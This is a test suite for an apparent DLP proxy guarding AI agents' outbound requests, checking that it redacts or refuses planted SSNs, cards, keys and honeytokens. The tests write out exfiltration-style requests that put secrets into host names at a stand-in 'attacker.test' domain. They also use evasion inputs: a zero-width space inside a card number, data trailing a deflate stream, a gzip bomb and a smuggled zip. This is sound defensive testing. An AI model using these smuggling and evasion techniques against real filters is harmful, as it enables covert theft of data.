/**
 * Issue 3 through the running proxy: redaction keeps JSON valid, blocks reach nothing
 * upstream, archives and honeytokens are refused (the latter alerted), encodings and
 * obfuscation are seen through, a decompression bomb is refused, and no planted value ever
 * appears in the audit stream.
 */
import { strict as assert } from 'node:assert';
import { createHash, generateKeyPairSync } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { Readable } from 'node:stream';
import { deflateSync, gunzipSync, gzipSync } from 'node:zlib';
import { request } from 'undici';
import { createTestPki } from '../fixtures/pki.js';
import { compileConfigText } from '../../proxy/config/load.js';
import { baseYaml, rawConnect, rawExchange, startUpstream, startWarden, type Harness, type Upstream } from './harness.js';

// Synthetic values (valid checksums, not real people or keys).
const SSN = '536-22-8143';
const CARD = '4666176031372159';
const HONEY = 'WARDEN-CANARY-7f3a9c2e1b4d';
const PRIVATE_KEY = generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
const HEX_HONEY = Buffer.from(HONEY).toString('hex');
const B64_HONEY = Buffer.from(`canary ${HONEY}`).toString('base64url');
const KEYED_SECRET = 'q8Zr2LmT7vXw4KpN9bYc'; // a secret by the name of its key only (generic_secret_key_view)
// A card written in the base64 alphabet (a multipart part may claim it is base64).
const CTE_CARD = '4556 7375 8689 9855';
const PLANTED = [SSN, CARD, HONEY, HEX_HONEY, B64_HONEY, PRIVATE_KEY.split('\n')[1]!, KEYED_SECRET, CTE_CARD, CTE_CARD.replaceAll(' ', '')];

describe('DLP in the request path', () => {
  let up: Upstream;
  let h: Harness;
  let dir: string;
  before(async () => {
    const pki = createTestPki();
    dir = mkdtempSync(join(tmpdir(), 'warden-dlp-'));
    writeFileSync(join(dir, 'up.pem'), pki.caPem);
    up = await startUpstream(pki);
    h = await startWarden({
      yaml: baseYaml(up.port, join(dir, 'up.pem'), '  default:\n    allow: [{ host: api.test.local, paths: ["/v1/*"] }, { host: "*.test.local", paths: ["/wild/*"] }]\n') +
        `honeytokens:\n  - { id: canary-1, value: "${HONEY}" }\n`,
    });
  });
  after(async () => {
    // Nothing planted may appear in anything Warden recorded (checked once everything is closed).
    const text = h.audit.text();
    await h.close();
    await up.close();
    rmSync(dir, { recursive: true, force: true });
    for (const v of PLANTED) assert.ok(!text.includes(v), 'a planted value reached the audit stream');
  });

  const post = (path: string, body: string | Buffer, headers: Record<string, string>, id: string) =>
    request(`https://api.test.local${path}`, { dispatcher: h.agent(), method: 'POST', body, headers: { ...headers, 'x-request-id': id } });
  const upstreamSaw = (id: string) => up.seen.find((s) => s.headers['x-request-id'] === id);

  test('an SSN in an OpenAI chat body arrives redacted and the JSON still parses', async () => {
    const body = JSON.stringify({
      model: 'gpt-4o', stream: true,
      messages: [{ role: 'system', content: 'You are helpful.' }, { role: 'user', content: `My SSN is ${SSN}, please file my taxes.` }],
    });
    const res = await post('/v1/chat/completions', body, { 'content-type': 'application/json' }, 'dlp-ssn');
    assert.equal(res.statusCode, 200);
    await res.body.dump();
    const seen = upstreamSaw('dlp-ssn');
    assert.ok(seen, 'upstream got the redacted request');
    assert.equal(Number(seen.headers['content-length']), seen.body.length);
    const parsed = JSON.parse(seen.body.toString()) as { model: string; stream: boolean; messages: Array<{ content: string }> };
    assert.equal(parsed.model, 'gpt-4o');
    assert.equal(parsed.stream, true);
    assert.equal(parsed.messages[0]!.content, 'You are helpful.');
    assert.ok(!parsed.messages[1]!.content.includes(SSN));
    assert.match(parsed.messages[1]!.content, /^My SSN is \[REDACTED:us_ssn\], please file my taxes\.$/);
    const rec = h.audit.byId('dlp-ssn').find((r) => r.event === 'request');
    assert.equal(rec?.decision, 'redact');
    assert.equal(rec?.reason, 'dlp');
    const f = rec?.findings?.find((x) => x.type === 'us_ssn');
    assert.ok(f && f.where.includes('messages') && f.fp.length >= 8 && f.sample.endsWith('8143'));
  });

  test('a value that is a secret by the name of its key arrives redacted, in a JSON body, a form and a query', async () => {
    // `{"password": "…"}` was passed as clean: the fast path and the group prefilter never saw
    // key and value together (inspect.ts someKeyedMember).
    const json = JSON.stringify({ model: 'gpt-4o', messages: [{ role: 'user', content: 'connect to the db' }] }).replace(/}$/, `, "db" : { "password"  :  "${KEYED_SECRET}" }}`);
    const res = await post('/v1/chat/completions', json, { 'content-type': 'application/json' }, 'dlp-keyed');
    assert.equal(res.statusCode, 200);
    await res.body.dump();
    const seen = upstreamSaw('dlp-keyed');
    assert.ok(seen, 'upstream got the redacted request');
    assert.ok(!seen.body.toString().includes(KEYED_SECRET));
    assert.equal((JSON.parse(seen.body.toString()) as { db: { password: string } }).db.password, '[REDACTED:generic_secret]');
    const rec = h.audit.byId('dlp-keyed').find((r) => r.event === 'request');
    assert.equal(rec?.decision, 'redact');
    assert.ok(rec?.findings?.some((f) => f.type === 'generic_secret' && f.where === 'body.db.password'));

    const form = await post(`/v1/login?user=ada&api_key=${KEYED_SECRET}&x=1`, `user=ada&password=${KEYED_SECRET}&remember=1`, { 'content-type': 'application/x-www-form-urlencoded' }, 'dlp-keyed-form');
    assert.equal(form.statusCode, 200);
    await form.body.dump();
    const seenForm = upstreamSaw('dlp-keyed-form');
    assert.ok(seenForm && !seenForm.body.toString().includes(KEYED_SECRET) && !seenForm.url.includes(KEYED_SECRET));
  });

  test('a private key is refused with 403 and the upstream sees nothing', async () => {
    const body = JSON.stringify({ messages: [{ role: 'user', content: `deploy with this key:\n${PRIVATE_KEY}` }] });
    const res = await post('/v1/chat/completions', body, { 'content-type': 'application/json' }, 'dlp-key');
    assert.equal(res.statusCode, 403);
    assert.equal(res.headers['x-warden-reason'], 'dlp');
    const j = (await res.body.json()) as { error: { code: string; findings: string[] } };
    assert.equal(j.error.code, 'dlp');
    assert.ok(j.error.findings.includes('private_key'));
    assert.equal(upstreamSaw('dlp-key'), undefined);
  });

  test('a zip inside a multipart upload is refused', async () => {
    const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00]), Buffer.alloc(200, 7)]);
    const boundary = '----warden-test-boundary';
    const body = Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="purpose"\r\n\r\nassistants\r\n`),
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="report.bin"\r\nContent-Type: application/octet-stream\r\n\r\n`),
      zip,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    const res = await post('/v1/files', body, { 'content-type': `multipart/form-data; boundary=${boundary}` }, 'dlp-zip');
    assert.equal(res.statusCode, 403);
    await res.body.dump();
    assert.equal(upstreamSaw('dlp-zip'), undefined);
    const rec = h.audit.byId('dlp-zip').find((r) => r.event === 'request');
    assert.ok(rec?.findings?.some((f) => f.type === 'archive'));
  });

  test('a card sent as is in a part declaring Content-Transfer-Encoding: base64 is refused (servers keep the part as sent)', async () => {
    const body = `--XyZ\r\nContent-Disposition: form-data; name="card"\r\nContent-Transfer-Encoding: base64\r\n\r\n${CTE_CARD}\r\n--XyZ--\r\n`;
    const res = await post('/v1/files', body, { 'content-type': 'multipart/form-data; boundary=XyZ' }, 'dlp-cte');
    assert.equal(res.statusCode, 403);
    assert.equal(res.headers['x-warden-reason'], 'dlp');
    await res.body.dump();
    assert.equal(upstreamSaw('dlp-cte'), undefined);
    const rec = h.audit.byId('dlp-cte').find((r) => r.event === 'request');
    assert.deepEqual(rec?.findings?.map((f) => [f.type, f.where, f.action]), [['credit_card', 'part:card', 'block']]);
  });

  test('a gzip-encoded body with a card number is caught and re-encoded', async () => {
    const body = gzipSync(JSON.stringify({ input: `charge card ${CARD} for the order` }));
    const res = await post('/v1/responses', body, { 'content-type': 'application/json', 'content-encoding': 'gzip' }, 'dlp-gzip');
    assert.equal(res.statusCode, 200);
    await res.body.dump();
    const seen = upstreamSaw('dlp-gzip');
    assert.ok(seen);
    assert.equal(Number(seen.headers['content-length']), seen.body.length);
    const text = seen.headers['content-encoding'] === 'gzip' ? gunzipSync(seen.body).toString() : seen.body.toString();
    const parsed = JSON.parse(text) as { input: string };
    assert.ok(!parsed.input.includes(CARD));
    assert.match(parsed.input, /2159/);
  });

  test('a zero-width space inside a card number is seen through', async () => {
    const split = `${CARD.slice(0, 8)}\u200b${CARD.slice(8)}`;
    const res = await post('/v1/chat/completions', JSON.stringify({ messages: [{ role: 'user', content: `card: ${split}` }] }), { 'content-type': 'application/json' }, 'dlp-zw');
    await res.body.dump();
    const rec = h.audit.byId('dlp-zw').find((r) => r.event === 'request');
    assert.ok(rec?.findings?.some((f) => f.type === 'credit_card'), 'card found despite the zero-width space');
    const seen = upstreamSaw('dlp-zw');
    if (seen) assert.ok(!seen.body.toString().replace(/\\u200b|\u200b/g, '').includes(CARD));
  });

  test('a honeytoken in a base64 field is refused and raises a critical alert', async () => {
    const b64 = Buffer.from(`notes for later: ${HONEY} keep safe`).toString('base64');
    const res = await post('/v1/chat/completions', JSON.stringify({ messages: [{ role: 'user', content: 'see attachment' }], attachment: b64 }), { 'content-type': 'application/json' }, 'dlp-honey');
    assert.equal(res.statusCode, 403);
    assert.equal(res.headers['x-warden-reason'], 'honeytoken');
    await res.body.dump();
    assert.equal(upstreamSaw('dlp-honey'), undefined);
    const alert = h.audit.byId('dlp-honey').find((r) => r.event === 'alert');
    assert.equal(alert?.severity, 'critical');
    assert.equal(alert?.reason, 'honeytoken');
  });

  test('a gzip bomb is refused as uninspectable without expanding it', async () => {
    const bomb = gzipSync(Buffer.alloc(256 * 1024 * 1024), { level: 9 });
    assert.ok(bomb.length < 1024 * 1024);
    const before = process.memoryUsage().rss;
    const res = await post('/v1/chat/completions', bomb, { 'content-type': 'application/json', 'content-encoding': 'gzip' }, 'dlp-bomb');
    assert.equal(res.statusCode, 403);
    assert.equal(res.headers['x-warden-reason'], 'uninspectable');
    await res.body.dump();
    assert.ok(process.memoryUsage().rss - before < 128 * 1024 * 1024, 'memory did not balloon');
    assert.equal(upstreamSaw('dlp-bomb'), undefined);
  });

  test('an unknown Content-Encoding is refused (fail closed)', async () => {
    const res = await post('/v1/chat/completions', Buffer.from('(compressed)'), { 'content-type': 'application/json', 'content-encoding': 'x-custom' }, 'dlp-enc');
    assert.equal(res.statusCode, 403);
    assert.equal(res.headers['x-warden-reason'], 'uninspectable');
    await res.body.dump();
    // An agent-chosen name is not recorded as sent (it could be anything).
    const rec = h.audit.byId('dlp-enc').find((r) => r.event === 'request');
    assert.deepEqual(rec?.detail, { error: 'unknown content-encoding (not a registered coding)' });
  });

  test('data after the end of a deflate stream is refused as uninspectable and never forwarded', async () => {
    // zlib stops at the end of the stream: only `{}` would be scanned, the whole body forwarded.
    const body = Buffer.concat([deflateSync('{}'), Buffer.from(` ssn ${SSN} card ${CARD}`)]);
    const res = await post('/v1/chat/completions', body, { 'content-type': 'application/json', 'content-encoding': 'deflate' }, 'dlp-ce-tail');
    assert.equal(res.statusCode, 403);
    assert.equal(res.headers['x-warden-reason'], 'uninspectable');
    const j = (await res.body.json()) as { error: { detail?: string } };
    assert.equal(j.error.detail, 'data after the end of the deflate stream');
    assert.equal(upstreamSaw('dlp-ce-tail'), undefined);
    const rec = h.audit.byId('dlp-ce-tail').find((r) => r.event === 'request');
    assert.equal(rec?.decision, 'block');
    assert.equal(rec?.reason, 'uninspectable');
    assert.deepEqual(rec?.detail, { error: 'data after the end of the deflate stream' }, 'the audit record says why');
  });

  test('the URL query and headers are scanned, the agent\'s own Authorization is not', async () => {
    const res = await request(`https://api.test.local/v1/search?q=${SSN}`, {
      dispatcher: h.agent(), headers: { authorization: `Bearer sk-agent-own-credential-123456`, 'x-note': `card ${CARD}`, 'x-request-id': 'dlp-hdr' },
    });
    await res.body.dump();
    const rec = h.audit.byId('dlp-hdr').find((r) => r.event === 'request');
    assert.ok(rec?.findings?.some((f) => f.where === 'query' || f.where.startsWith('query')), 'query scanned');
    assert.ok(rec?.findings?.some((f) => f.where === 'header:x-note'), 'header scanned');
    assert.ok(!rec?.findings?.some((f) => f.where === 'header:authorization'), 'credential header skipped');
  });

  for (const [where, url] of [
    ['the path', `https://api.test.local/v1/files/${HONEY}/content`],
    ['a query key', `https://api.test.local/v1/files?${HONEY}=1`],
    ['the path, on a path the allow rule refuses', `https://api.test.local/v2/${HONEY}`],
    ['the path, hex-encoded', `https://api.test.local/v1/files/${HEX_HONEY}/content`],
    ['the path, base64-encoded', `https://api.test.local/v1/files/${B64_HONEY}/content`],
    ['a query key, hex-encoded, on a path the allow rule refuses', `https://api.test.local/v2/x?${HEX_HONEY}=1`],
  ] as const) test(`a honeytoken in ${where} is refused and the audit url does not hold it`, async () => {
    const res = await request(url, { dispatcher: h.agent(), headers: { 'x-request-id': `url-${where.length}` } });
    assert.equal(res.statusCode, 403);
    await res.body.dump();
    const rec = h.audit.byId(`url-${where.length}`).find((r) => r.event === 'request');
    for (const form of [HONEY, HEX_HONEY, B64_HONEY]) assert.ok(rec && !String(rec.url).includes(form), String(rec?.url));
  });

  test('a honeytoken sent as X-Request-Id is refused, and the id is replaced in every record', async () => {
    const before = h.audit.records.length;
    const res = await request('https://api.test.local/v1/models', { dispatcher: h.agent(), headers: { 'x-request-id': HONEY } });
    assert.equal(res.statusCode, 403);
    assert.equal(res.headers['x-warden-reason'], 'honeytoken');
    assert.notEqual(res.headers['x-request-id'], HONEY);
    await res.body.dump();
    const recs = h.audit.records.slice(before).filter((r) => r.event === 'request' || r.event === 'alert');
    assert.ok(recs.some((r) => r.reason === 'honeytoken'));
    // The after() hook checks that the value is nowhere in the audit stream.
  });

  test('a honeytoken used as the agent\'s credential is refused: credential headers are checked for canaries', async () => {
    const res = await request('https://api.test.local/v1/models', {
      dispatcher: h.agent(), headers: { authorization: `Bearer ${HONEY}`, 'x-request-id': 'dlp-honey-auth' },
    });
    assert.equal(res.statusCode, 403);
    assert.equal(res.headers['x-warden-reason'], 'honeytoken');
    await res.body.dump();
    assert.equal(upstreamSaw('dlp-honey-auth'), undefined);
    const rec = h.audit.byId('dlp-honey-auth').find((r) => r.event === 'request');
    assert.deepEqual(rec?.findings?.map((f) => [f.type, f.where]), [['honeytoken', 'header:authorization']]);
  });

  test('a host name that holds a secret is starred in every record (CONNECT target, host, absolute URL)', async () => {
    const cases = [
      ['dlp-host-honey', `x.${HONEY}.attacker.test:443`, 'x.*.attacker.test'],
      ['dlp-host-ssn', `${SSN}.attacker.test:443`, '*.attacker.test'],
      ['dlp-host-card', `${CARD}.api.test.local:443`, '*.api.test.local'],
    ] as const;
    for (const [id, target, host] of cases) {
      const r = await rawConnect(h.port, target, `X-Request-Id: ${id}\r\n`);
      assert.equal(r.status, 403, id);
      const rec = h.audit.byId(id).find((x) => x.event === 'connect');
      assert.equal(rec?.url, `${host}:443`, id);
      assert.equal(rec?.host, host, id);
    }
    // Absolute-form on the plain port: the URL's authority and the host.
    const plain = await rawExchange(h.port, `GET http://${SSN}.attacker.test/v1/x HTTP/1.1\r\nHost: ${SSN}.attacker.test\r\nX-Request-Id: dlp-host-plain\r\nConnection: close\r\n\r\n`);
    assert.match(plain, /^HTTP\/1\.1 403/);
    const rec = h.audit.byId('dlp-host-plain').find((x) => x.event === 'request');
    assert.equal(rec?.url, 'http://*.attacker.test/v1/x');
    assert.equal(rec?.host, '*.attacker.test');
    const all = JSON.stringify(h.audit.records).toLowerCase();
    assert.ok(!all.includes(HONEY.toLowerCase()), 'the canary, lower-cased as the host field holds names');
    // The allowed host itself is recorded as written.
    const ok = await request('https://api.test.local/v1/models', { dispatcher: h.agent(), headers: { 'x-request-id': 'dlp-host-clean' } });
    await ok.body.dump();
    assert.equal(h.audit.byId('dlp-host-clean').find((x) => x.event === 'request')?.host, 'api.test.local');
  });

  test('a name admitted by a wildcard entry that holds sensitive data is refused (dlp) before it is resolved; a clean one is not', async () => {
    const r = await rawConnect(h.port, `${SSN}.test.local:443`, 'X-Request-Id: dlp-wild-ssn\r\n');
    assert.equal(r.status, 403);
    assert.match(r.body, /"code":"dlp"/);
    const rec = h.audit.byId('dlp-wild-ssn').find((x) => x.event === 'connect');
    assert.equal(rec?.reason, 'dlp');
    assert.equal(rec?.rule, 'profiles.default.allow[1]');
    assert.equal(rec?.host, '*.test.local');
    assert.equal(rec?.dest_ip, undefined, 'never resolved');
    // A case-sensitive pattern only matches the target as written (the name leaves lower-cased).
    const aws = await rawConnect(h.port, 'AKIAQWERTYUIOPASDFGH.test.local:443', 'X-Request-Id: dlp-wild-aws\r\n');
    assert.equal(aws.status, 403);
    assert.match(aws.body, /"code":"dlp"/);
    assert.equal(h.audit.byId('dlp-wild-aws').find((x) => x.event === 'connect')?.host, '*.test.local');
    // Plain http:// to such a name: the same.
    const plain = await rawExchange(h.port, `GET http://${SSN}.test.local/wild/x HTTP/1.1\r\nHost: ${SSN}.test.local\r\nX-Request-Id: dlp-wild-plain\r\nConnection: close\r\n\r\n`);
    assert.match(plain, /^HTTP\/1\.1 403/);
    assert.equal(h.audit.byId('dlp-wild-plain').find((x) => x.event === 'request')?.reason, 'dlp');
    const plainAws = await rawExchange(h.port, 'GET http://AKIAQWERTYUIOPASDFGH.test.local/wild/x HTTP/1.1\r\nHost: AKIAQWERTYUIOPASDFGH.test.local\r\nConnection: close\r\n\r\n');
    assert.match(plainAws, /^HTTP\/1\.1 403[^]*"code":"dlp"/);
    // A clean name under the wildcard goes through.
    const ok = await request('https://ok-name.test.local/wild/x', { dispatcher: h.agent(), headers: { 'x-request-id': 'dlp-wild-ok' } });
    await ok.body.dump();
    assert.equal(ok.statusCode, 200);
    assert.equal(h.audit.byId('dlp-wild-ok').find((x) => x.event === 'request')?.host, 'ok-name.test.local');
  });

  test('a honeytoken as a header name is refused (names are forwarded too), and no record holds it in either case', async () => {
    const name = `X-${HONEY}`;
    const res = await request('https://api.test.local/v1/models', { dispatcher: h.agent(), headers: { [name]: HONEY.slice(0, 4), 'x-request-id': 'dlp-honey-name' } });
    assert.equal(res.statusCode, 403);
    assert.equal(res.headers['x-warden-reason'], 'honeytoken');
    await res.body.dump();
    assert.equal(upstreamSaw('dlp-honey-name'), undefined);
    const recs = h.audit.byId('dlp-honey-name');
    assert.deepEqual(recs.find((r) => r.event === 'request')?.findings?.map((f) => [f.type, f.where]), [['honeytoken', 'header-name']]);
    assert.ok(!JSON.stringify(recs).toLowerCase().includes(HONEY.toLowerCase()));
  });
});

describe('DLP in the request path: large bodies on an inspection worker', () => {
  let up: Upstream;
  let h: Harness;
  let dir: string;
  const yaml = (honey: string): string =>
    baseYaml(up.port, join(dir, 'up.pem'), '  default:\n    allow: [api.test.local]\n') +
    `honeytokens:\n  - { id: canary-1, value: "${honey}" }\ndlp:\n  workers: 1\n`;
  const NEW_HONEY = 'WARDEN-CANARY-reloaded-5e8b1d';
  before(async () => {
    const pki = createTestPki();
    dir = mkdtempSync(join(tmpdir(), 'warden-dlpw-'));
    writeFileSync(join(dir, 'up.pem'), pki.caPem);
    up = await startUpstream(pki);
    h = await startWarden({ yaml: yaml(HONEY) });
  });
  after(async () => {
    const text = h.audit.text();
    for (const v of [...PLANTED, NEW_HONEY]) assert.ok(!text.includes(v), 'a planted value reached the audit stream');
    await h.close();
    await up.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const filler = (bytes: number): string => 'Summarise the attached meeting notes, please. '.repeat(Math.ceil(bytes / 46)).slice(0, bytes);
  const post = (body: string | Buffer | Readable, id: string, headers: Record<string, string> = { 'content-type': 'application/json' }) =>
    request('https://api.test.local/v1/chat/completions', { dispatcher: h.agent(), method: 'POST', body, headers: { ...headers, 'x-request-id': id } });
  const upstreamSaw = (id: string) => up.seen.find((s) => s.headers['x-request-id'] === id);

  test('an SSN at the end of a 1 MiB chat body arrives redacted, inspected off the event loop', async () => {
    const body = JSON.stringify({ model: 'gpt-4o', messages: [{ role: 'user', content: `${filler(1 << 20)} My SSN is ${SSN}.` }] });
    const res = await post(body, 'dlpw-ssn');
    assert.equal(res.statusCode, 200);
    await res.body.dump();
    assert.ok((h.proxy.runtime().inspectPool?.workers ?? 0) >= 1, 'a worker inspected the body');
    const seen = upstreamSaw('dlpw-ssn');
    assert.ok(seen);
    assert.equal(Number(seen.headers['content-length']), seen.body.length);
    const content = (JSON.parse(seen.body.toString()) as { messages: Array<{ content: string }> }).messages[0]!.content;
    assert.ok(content.endsWith('My SSN is [REDACTED:us_ssn].'));
    assert.ok(!seen.body.includes(SSN));
    assert.equal(h.audit.byId('dlpw-ssn').find((r) => r.event === 'request')?.decision, 'redact');
    assert.equal(h.proxy.sharedBodies.out, 0, 'the body replaced by its redaction went back to the arena');
  });

  test('clean large bodies arrive byte for byte, with a length and chunked', async () => {
    const body = Buffer.from(JSON.stringify({ messages: [{ role: 'user', content: filler(2 << 20) }] }));
    const res = await post(body, 'dlpw-clean');
    assert.equal(res.statusCode, 200);
    await res.body.dump();
    assert.ok(upstreamSaw('dlpw-clean')?.body.equals(body), 'the upstream got the same bytes');

    const parts = [body.subarray(0, 300_000), body.subarray(300_000, 700_000), body.subarray(700_000)];
    const chunked = await post(Readable.from(parts), 'dlpw-chunked');
    assert.equal(chunked.statusCode, 200);
    await chunked.body.dump();
    assert.ok(upstreamSaw('dlpw-chunked')?.body.equals(body), 'the upstream got the same bytes');

    // A smaller, different body reuses the arena's memory: nothing of the one before may show.
    const second = Buffer.from(JSON.stringify({ messages: [{ role: 'user', content: 'Another agent, another task. '.repeat(30_000) }] }));
    const res2 = await post(second, 'dlpw-second');
    assert.equal(res2.statusCode, 200);
    await res2.body.dump();
    assert.ok(upstreamSaw('dlpw-second')?.body.equals(second), 'the upstream got exactly the second body');
    assert.equal(h.proxy.sharedBodies.out, 0, 'every shared body went back to the arena');
    assert.ok(h.proxy.sharedBodies.kept > 0, 'and is kept for reuse');
  });

  test('after a reload, large bodies are inspected with the new honeytokens', async () => {
    const old = h.proxy.runtime().inspectPool!;
    h.proxy.reload(compileConfigText(yaml(NEW_HONEY), join(h.dir, 'warden.yaml')));
    assert.equal(old.wants(1 << 20), false, 'the old pool is retired');
    const body = JSON.stringify({ messages: [{ role: 'user', content: `${filler(600 * 1024)} ${NEW_HONEY}` }] });
    const res = await post(body, 'dlpw-reloaded');
    assert.equal(res.statusCode, 403);
    assert.equal(res.headers['x-warden-reason'], 'honeytoken');
    await res.body.dump();
    assert.equal(upstreamSaw('dlpw-reloaded'), undefined);
    assert.equal(h.proxy.sharedBodies.out, 0, 'a refused body went back to the arena');
    assert.ok((h.proxy.runtime().inspectPool?.workers ?? 0) >= 1);
  });
});

describe('DLP in the request path: a small body dense with candidates moves to a worker', () => {
  let up: Upstream;
  let h: Harness;
  let dir: string;
  before(async () => {
    const pki = createTestPki();
    dir = mkdtempSync(join(tmpdir(), 'warden-dlpb-'));
    writeFileSync(join(dir, 'up.pem'), pki.caPem);
    up = await startUpstream(pki);
    h = await startWarden({ yaml: baseYaml(up.port, join(dir, 'up.pem'), '  default:\n    allow: [api.test.local]\n') + 'dlp:\n  workers: 1\n' });
  });
  after(async () => {
    await h.close();
    await up.close();
    rmSync(dir, { recursive: true, force: true });
  });

  test('64 KiB of password members: redacted whole by a worker, not scanned on the event loop', async () => {
    const post = (body: string, id: string) => request('https://api.test.local/v1/chat/completions', {
      dispatcher: h.agent(), method: 'POST', body, headers: { 'content-type': 'application/json', 'x-request-id': id },
    });
    // A chat request stays inline: no worker is started for it.
    const small = await post(JSON.stringify({ model: 'm', messages: [{ role: 'user', content: `My SSN is ${SSN}.` }] }), 'dlpb-small');
    assert.equal(small.statusCode, 200);
    await small.body.dump();
    assert.equal(h.proxy.runtime().inspectPool?.workers, 0, 'a chat request is inspected inline');
    // ~2,000 keyed views of random text: ~50 ms inline; past 10,000 units the scan moves.
    const members: string[] = [];
    for (let i = 0, bytes = 0; bytes < 64 * 1024; i++) {
      const member = `"k${i}":{"pass":"Q7${createHash('sha256').update(`k${i}`).digest('base64').replace(/[^A-Za-z0-9]/g, '').slice(0, 18)}"}`;
      members.push(member);
      bytes += member.length + 1;
    }
    const body = `{${members.join(',')}}`;
    const res = await post(body, 'dlpb-dense');
    assert.equal(res.statusCode, 200);
    await res.body.dump();
    assert.equal(h.proxy.runtime().inspectPool?.workers, 1, 'a worker inspected the body');
    const seen = up.seen.find((s) => s.headers['x-request-id'] === 'dlpb-dense');
    assert.ok(seen);
    // What the proxy's own engine makes of the body, scanned whole.
    const rt = h.proxy.runtime();
    const expected = rt.engine.inspect({ method: 'POST', url: '/v1/chat/completions', headers: { 'content-type': 'application/json' }, body: Buffer.from(body), skipHeaders: [] }, rt.config.profiles.get('default')!.dlp);
    assert.equal(expected.decision, 'redact');
    assert.ok(seen.body.equals(expected.body!), 'the upstream got the whole redaction');
    const redacted = Object.values(JSON.parse(seen.body.toString()) as Record<string, { pass: string }>).filter((m) => m.pass === '[REDACTED:generic_secret]');
    assert.ok(redacted.length > members.length * 0.9, `${redacted.length} of ${members.length} redacted`);
    assert.equal(h.audit.byId('dlpb-dense').find((r) => r.event === 'request')?.decision, 'redact');
  });
});
